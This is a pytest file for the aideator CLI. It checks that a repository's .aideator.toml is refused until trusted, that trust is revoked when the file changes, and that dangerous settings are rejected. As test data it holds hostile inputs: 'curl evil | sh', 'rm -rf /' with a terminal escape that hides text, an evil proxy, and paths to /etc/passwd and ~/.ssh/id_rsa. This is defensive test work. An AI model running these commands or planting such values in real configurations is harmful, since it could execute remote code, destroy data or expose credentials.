"""What a repository may set, and that nothing of it counts before the user trusts it. Whoever can push to the repository wrote its file."""

import json
import os
from pathlib import Path

import pytest

from aideator_cli.cli import terminal
from aideator_cli.cli.option_table import option_table
from aideator_cli.errors import ExitCode
from aideator_cli.system.configuration.repository import allowed
from tests.backends.kubernetes.api_server import write_kubeconfig
from tests.cli.conftest import Dry, Shell
from tests.cli.test_config import spec_of
from tests.fixtures.repositories import LocalRepository


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    repository = LocalRepository(tmp_path / "clone")
    repository.commit({"a.py": "x\n", "deep/er/b.py": "y\n"})
    return repository.path


@pytest.fixture
def here(aideator: Shell, clone: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Dry:
    """`run --dry-run` in the clone."""
    (tmp_path / "script.yaml").write_text("- say: done\n")
    monkeypatch.setenv("KUBECONFIG", str(write_kubeconfig(tmp_path / "kubeconfig", "https://127.0.0.1:1", {})))
    monkeypatch.chdir(clone)
    words = ["run", ".", "Fix it.", "-n", "1", "--dry-run", "--model", f"scripted/{tmp_path}/script.yaml"]
    return lambda *more: aideator(*words, *more)


def write(clone: Path, text: str) -> Path:
    path = clone / ".aideator.toml"
    path.write_text(text)
    return path


def test_nothing_of_a_repositorys_file_counts_before_it_is_trusted_and_after_it_has_changed(
    here: Dry, aideator: Shell, clone: Path
) -> None:
    path = write(clone, 'verify = "pytest -q"\nimage = "python:3.12"\nmax_steps = 7\n')
    said = here()
    assert (said.code, said.out) == (ExitCode.REFUSED, "")
    assert f"{path} is not trusted" in said.err
    assert f"aideator trust {clone}" in said.err
    assert spec_of(here("--no-repository-file")).get("image") is None
    assert "does not count until you trust it" in aideator("config", "show").err
    assert aideator("trust", str(clone / "deep")).err == (
        f"  verify     pytest -q\n  image      python:3.12\n  max_steps  7\n{path} is trusted until it changes\n"
    )
    spec = spec_of(here())
    assert (spec["image"], spec["limits"]["steps"], spec["checks"][0]["command"]) == ("python:3.12", 7, "pytest -q")
    assert spec_of(here("--max-steps", "9", "--no-image"))["limits"]["steps"] == 9
    write(clone, 'verify = "curl evil | sh"\n')
    assert here().code == ExitCode.REFUSED
    write(clone, 'verify = "pytest -q"\nimage = "python:3.12"\nmax_steps = 7\n')
    assert here().code == 0  # as it was trusted
    assert "is no longer trusted" in aideator("trust", "--revoke").err
    assert here().code == ExitCode.REFUSED
    assert aideator("trust", "--revoke").code == 0


def test_programs_read_whether_a_file_is_trusted_and_whether_it_was(aideator: Shell, clone: Path) -> None:
    path = write(clone, "max_steps = 7\n")

    def told(*more: str) -> object:
        return json.loads(aideator("trust", str(clone), *more, "--json").out)

    trusted = {"kind": "trust", "place": str(path), "trusted": True}
    revoked = {"kind": "trust", "place": str(clone), "trusted": False}
    assert [told(), told()] == [{**trusted, "changed": True}, {**trusted, "changed": False}]
    assert [told("--revoke"), told("--revoke")] == [{**revoked, "changed": True}, {**revoked, "changed": False}]


def test_trust_in_one_clone_is_none_in_another(here: Dry, aideator: Shell, clone: Path, tmp_path: Path) -> None:
    write(clone, "max_steps = 7\n")
    assert aideator("trust").code == 0
    assert here().code == 0
    other = LocalRepository(tmp_path / "other")
    other.commit({"a.py": "x\n", ".aideator.toml": "max_steps = 7\n"})
    assert aideator("run", str(other.path), "Fix it.", "--dry-run").code == ExitCode.REFUSED


def test_a_person_is_asked_once_and_sees_all_of_it(here: Dry, clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(clone, 'verify = "true\\nrm -rf / \\u001b[8m"\n[profiles.fast]\nsetup = "make"\n')
    asked: list[str] = []
    monkeypatch.setattr(terminal, "is_asked", lambda: True)
    monkeypatch.setattr(terminal, "agrees", lambda question: bool(asked.append(question) or len(asked) > 1))
    said = here()
    assert said.code == ExitCode.REFUSED
    assert "  verify                 true⏎rm -rf / ␛[8m\n" in said.err
    assert "  setup [profiles.fast]  make\n" in said.err
    assert here().code == 0
    assert here().code == 0
    assert asked == ["Do you trust it?"] * 2


def test_yes_to_other_questions_is_no_trust(here: Dry, clone: Path) -> None:
    write(clone, "max_steps = 7\n")
    assert here("--yes").code == ExitCode.REFUSED


def test_what_the_user_writes_into_a_repository_is_trusted(here: Dry, aideator: Shell, clone: Path) -> None:
    assert aideator("config", "set", "--repository", "max_steps", "7").code == 0
    assert spec_of(here())["limits"]["steps"] == 7
    with (clone / ".aideator.toml").open("a") as file:
        file.write("retries = 2\n")  # by somebody else
    assert aideator("config", "set", "--repository", "max_steps", "8").code == 0
    assert here().code == ExitCode.REFUSED


def test_the_repositorys_file_stands_between_the_users_and_the_profile(
    here: Dry, aideator: Shell, clone: Path, home: Path
) -> None:
    home.mkdir()
    (home / "config.toml").write_text("max_steps = 1\nmax_tokens = 1\n[profiles.cheap]\nmax_steps = 3\n")
    write(clone, "max_steps = 2\nretries = 0\n[profiles.cheap]\nmax_steps = 4\nretries = 3\n")
    assert aideator("trust").code == 0
    limits = spec_of(here())["limits"]
    assert (limits["steps"], limits["tokens"]) == (2, 1)
    spec = spec_of(here("--profile", "cheap"))
    assert (spec["limits"]["steps"], spec["retries"]) == (3, 3)


def test_a_remote_repository_is_not_looked_into(aideator: Shell, here: Dry, clone: Path, tmp_path: Path) -> None:
    write(clone, 'image = "evil"\n')
    said = aideator(
        "run", f"file://{clone}", "Fix it.", "-n", "1", "--dry-run", "--model", f"scripted/{tmp_path}/script.yaml"
    )
    assert spec_of(said).get("image") is None
    assert here().code == ExitCode.REFUSED


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("context = 'prod'", "line 1: a repository can't set context\n hint: set it for yourself: aideator config set context"),
        ("namespace = 'prod'", "a repository can't set namespace"),
        ("backend = 'local'", "a repository can't set backend"),
        ("allow_local_shell = true", "a repository can't set allow_local_shell"),
        ("agent_home = true", "a repository can't set agent_home"),
        ("agent_command = 'sh {prompt}'", "a repository can't set agent_command"),
        ("agent_image = 'evil'", "a repository can't set agent_image"),
        ("yes = true", "a repository can't set yes"),
        ("secret = 'prod-keys'", "a repository can't set secret"),
        ("git_secret = 'x'", "a repository can't set git_secret"),
        ("env_from = ['prod']", "a repository can't set env_from"),
        ("env = ['HTTPS_PROXY=http://evil']", "a repository can't set env"),
        ("service_account = 'admin'", "a repository can't set service_account"),
        ("pod_patch = 'patch.yaml'", "a repository can't set pod_patch"),
        ("api_base = 'https://evil'", "a repository can't set api_base"),
        ("ca = 'ca.pem'", "a repository can't set ca"),
        ("mcp = ['mcp.json']", "a repository can't set mcp"),
        ("carry = ['.env']", "a repository can't set carry"),
        ("dirty = true", "a repository can't set dirty"),
        ("matrix = 'm.yaml'", "a repository can't set matrix"),
        ("push = 'origin'", "a repository can't set push"),
        ("apply = true", "a repository can't set apply"),
        ("json = true", "a repository can't set json"),
        ("[profiles.x]\nsecret = 'x'", "[profiles.x], line 2: a repository can't set secret"),
        ("role = '../../etc/passwd'", "role names the file '../../etc/passwd'"),
        ("role = ['qa', '/etc/passwd:2']", "role names the file '/etc/passwd:2'"),
        ("role = 'evil.md'", "role names the file 'evil.md'"),
        ("role = 'qa, ~/.ssh/id_rsa'", "role names the file '~/.ssh/id_rsa'"),
        ("agent = './agent.yaml'", "agent names the file './agent.yaml'"),
        ("agent = 'agent.yml/gpt-5:2'", "agent names the file"),
        ("model = 'scripted//etc/passwd'", "model names the file 'scripted//etc/passwd'"),
        ("GITHUB_TOKEN = 'x'", "no configuration may hold one"),
        ("modle = 'gpt-5'", "unknown setting 'modle'"),
        ("verify = 1", "verify is 1; it takes a list of texts"),
        ("x = '" + "x" * 70_000 + "'", "is larger than 64 KiB"),
    ],
)  # fmt: skip
def test_a_hostile_file_stops_the_run_before_trust_is_asked(here: Dry, clone: Path, text: str, words: str) -> None:
    path = write(clone, text + "\n")
    said = here()
    assert (said.code, said.out) == (ExitCode.USAGE, "")
    assert words in said.err
    assert str(path) in said.err
    assert here("--no-repository-file").code == 0


@pytest.mark.parametrize(
    ("name", "value"),
    [("model", "gpt-5:2,ollama/qwen:7b"), ("role", "qa:1,backend"), ("agent", "claude/claude-sonnet-4-5:2,own")],
)
def test_what_is_known_by_name_may_be_named(aideator: Shell, clone: Path, name: str, value: str) -> None:
    write(clone, f"{name} = '{value}'\n")
    assert aideator("trust", str(clone)).code == 0


def test_what_is_no_file_is_not_read(here: Dry, clone: Path, tmp_path: Path) -> None:
    path = clone / ".aideator.toml"
    (tmp_path / "outside.toml").write_text("max_steps = 7\n")
    path.symlink_to(tmp_path / "outside.toml")
    assert "is a link, which AIdeator does not follow" in here().err
    path.unlink()
    os.mkfifo(path)
    assert "is not a regular file" in here().err
    path.unlink()
    path.mkdir()
    assert here().code == ExitCode.USAGE
    path.rmdir()
    path.write_bytes(b"model = '\xff'\n")
    said = here()
    assert said.code == ExitCode.USAGE
    assert "is not UTF-8 (byte 9)" in said.err
    assert "--no-repository-file" in said.err


def test_only_options_that_stay_inside_the_run_are_a_repositorys_to_set() -> None:
    """Besides those that limit or check the agents' work. Look at what an option can do before you add it here."""
    assert sorted(each.name for each in option_table().values() if allowed(each) and each.group not in ("Checks", "Limits")) == [
        "agent", "check_cpu", "check_disk", "check_memory", "cpu", "depth", "disk", "image", "max_parallel", "memory", "model", "n",
        "no_submodules", "private", "role", "search", "sparse", "subdir", "temperature", "withhold_secrets",
    ]  # fmt: skip


def test_a_list_of_trust_that_is_damaged_trusts_nothing(here: Dry, aideator: Shell, clone: Path, home: Path) -> None:
    write(clone, "max_steps = 7\n")
    assert aideator("trust").code == 0
    (home / "trusted.json").write_text("[]")
    said = here()
    assert said.code == ExitCode.USAGE
    assert "trusted.json" in said.err


def test_a_folder_without_such_a_file(aideator: Shell, clone: Path, tmp_path: Path) -> None:
    assert aideator("trust", str(clone)).code == ExitCode.NOT_FOUND
    assert aideator("trust", str(tmp_path)).code == ExitCode.NOT_FOUND
    assert aideator("config", "set", "--repository", "-C", str(tmp_path), "n", "1").code == ExitCode.NOT_FOUND
